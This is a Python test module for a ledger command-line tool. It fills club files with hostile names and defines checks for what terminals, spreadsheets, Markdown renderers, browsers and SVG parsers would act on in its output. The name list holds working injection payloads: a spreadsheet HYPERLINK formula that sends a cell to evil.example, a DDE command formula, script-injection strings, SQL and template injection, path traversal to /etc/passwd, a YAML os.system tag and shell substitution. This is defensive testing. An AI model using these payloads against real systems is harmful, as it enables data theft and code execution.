"""Names, cells and files made to do harm, and what each kind of reader would make of an output."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import mistune
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

from policy.cli import command
from tests.policy.pages import read
from tests.policy.small import BOOK

HIT = "document.title='hit'"
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    "@SUM(1)",
    "=1+1",
    "-2+3",
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'"><svg onload={HIT}>',
    f"' onmouseover='{HIT}",
    f"</title><script>{HIT}</script>",
    f"</text></svg><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    "**bold** _em_ `code` ~~gone~~",
    f"[x](javascript:{HIT})",
    "![x](http://evil.example/x.png)",
    "http://evil.example/ www.evil.example me@evil.example",
    "a | b |",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "~~~",
    "---",
    "&lt;b&gt; &#60;b&#62;",
    "{{7*7}}{% x %}",
    "%s%n{0}",
    "'); DROP TABLE x; --",
    "\\x1b[31m \\u202e",
    "../../etc/passwd",
    "§ 1",
    "__proto__",
    "!!python/object:os.system",
    "$(id) `id`",
    "]]><!--",
    "\u0630\u0643\u0631 \ufdfd e\u0301 \U0001f41a",
    "a\\",
    "A" * 3000,
)
"""Names that a ledger may really have, since nothing in them is hidden."""

LEDGER = "<b>=x&\x1b[31m\u202e\u2028.csv"
"""A file may be called so, too."""
COMPANION = """\
# =1+1 & {{7*7}} [x]

Book: club
Record complete to: 2001-12-31

## Facts

The Club opened the garden on May 1, 1990, according to "=1+1 & {{7*7}} %s".

## Questions

1. Is Ann Lee welcome on September 1, 2001?
"""
MAPPING = """\
[[table]]
says = "*a person* is a member"
from = "members"
columns = ["who"]
first = "from"
"""
FACTS = (
    *("--case", "companion.md", "--facts", LEDGER, "--facts", "people.csv"),
    *("--facts", "members.csv", "--map", "map.toml"),
)


def table(header: str, rows: Iterable[tuple[object, ...]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return f"{header}\n{out.getvalue()}"


def write(folder: Path) -> None:
    """The garden club with leases and persons of hostile names, in a ledger of a hostile name."""
    (folder / "club.md").write_text(BOOK, "utf-8")
    (folder / "companion.md").write_text(COMPANION, "utf-8")
    (folder / "map.toml").write_text(MAPPING, "utf-8")
    leases = [(name, name, "2001-03-01", 80 + at, "small plot", "", name) for at, name in enumerate(NAMES)]
    (folder / LEDGER).write_text(table("lease,tenant,date,shares,plot size,end,source", leases), "utf-8")
    (folder / "people.csv").write_text(table("person", [(name,) for name in (*NAMES, "Ann Lee")]), "utf-8")
    (folder / "members.csv").write_text(table("who,from", [(name, "1999-01-01") for name in NAMES]), "utf-8")


def clausebook(*arguments: object) -> Result:
    """A command; one that faults is no way to refuse."""
    result = CliRunner().invoke(command, list(map(str, arguments)), catch_exceptions=False)
    assert result.exit_code != 3, result.stderr
    return result


# ------------------------------------------------------------------- readers


def steering(text: str) -> list[str]:
    """The characters that a terminal would obey, or not show."""
    return sorted(
        {f"U+{ord(each):04X}" for each in text if each not in "\n\N{NO-BREAK SPACE}" and not each.isprintable()}
    )


def formulas(text: str) -> list[str]:
    """The cells of CSV that a spreadsheet would reckon."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(tuple("=+-@\t\r"))]


def strings(data: Any) -> Iterator[str]:
    """All texts in plain data."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from (key, *strings(value))
    elif isinstance(data, list):
        for each in data:
            yield from strings(each)


def json_strings(text: str) -> list[str]:
    assert steering(text) == []
    return list(strings(json.loads(text)))


_MEANT = {"ul", "li", "p", "strong", "h1", "h2", "h3"}


def acts_of_markdown(text: str) -> set[str]:
    """What two readers of Markdown, one of them of every extension, make of a text beside lists and headings."""
    html = MarkdownIt("gfm-like", {"linkify": False}).render(text)
    loose = mistune.create_markdown(escape=False, plugins=["url", "table", "strikethrough", "task_lists", "math"])(text)
    assert isinstance(loose, str)
    return {tag for page in (html, loose) for tag, _ in read(page).tags} - _MEANT


_TAGS = """
html head meta title style link body main header nav footer section article aside div p span h1 h2 h3 h4 ul ol li dl dt
dd table thead tbody tr th td caption a strong em code pre blockquote hr br details summary figure figcaption input
label button select option optgroup form script noscript textarea meter output mark small time kbd svg g rect path text
tspan defs marker circle line
"""
_HREF = re.compile(r"(?:[a-z0-9.-]+\.(?:html|css|js))?(?:#[A-Za-z0-9_.-]*)?|data:,")


def acts_of_html(page: str) -> list[str]:
    """What in a page a browser would do that our pages never ask of it."""
    found = steering(page)
    for tag, attributes in read(page).tags:
        if tag not in _TAGS.split():
            found.append(f"<{tag}>")
        if tag == "script" and not (attributes.get("src") or attributes.get("type") == "application/json"):
            found.append("a script in the page")
        for name, value in attributes.items():
            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
                found.append(f"{tag} {name}")
            if name in ("href", "src", "xlink:href") and _HREF.fullmatch(value or "") is None:
                found.append(f"{tag} {name}={value}")
    return found


def acts_of_svg(text: str) -> list[str]:
    """The same of a picture, which is read strictly."""
    assert steering(text) == []
    root = ElementTree.fromstring(text)  # noqa: S314 - made here
    tags = {each.tag.partition("}")[2] for each in root.iter()}
    allowed = {"svg", "g", "rect", "path", "text", "tspan", "title", "defs", "marker", "circle", "a", "line"}
    named = [f"{each.tag} {name}" for each in root.iter() for name in each.attrib if name.startswith("on")]
    return [*sorted(tags - allowed), *named]


def words_of_html(page: str) -> str:
    """What a browser would show of a page, without blanks."""
    return "".join(re.sub(r"\s+", "", text) for text in read(page).texts)


def all_files(folder: Path) -> list[str]:
    return sorted(os.path.relpath(path, folder) for path in folder.rglob("*") if path.is_file())
